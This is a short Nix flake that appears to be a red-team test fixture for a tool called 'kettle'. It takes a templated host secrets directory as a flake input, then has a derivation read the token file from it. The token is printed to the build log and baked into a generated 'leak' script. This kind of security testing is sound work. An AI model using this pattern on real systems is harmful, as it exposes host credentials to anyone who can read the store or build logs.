{
  description = "red team: flake input copies a host directory into the store during kettle's (unsandboxed) evaluation";
  inputs.secret = { url = "path:@SECRETS@"; flake = false; };
  outputs = { self, secret }: let
    system = "x86_64-linux";
    pkg = derivation {
      name = "rt-host-read";
      inherit system;
      builder = "/bin/sh";
      args = [ "-c" ''
        /bin/mkdir -p $out/bin
        echo "token file from the host: $(/bin/cat ${secret}/token)"
        { echo '#!/bin/sh'; echo "echo '$(/bin/cat ${secret}/token)'"; } > $out/bin/leak
        /bin/chmod 755 $out/bin/leak
      '' ];
    };
  in { packages.${system}.default = pkg; };
}
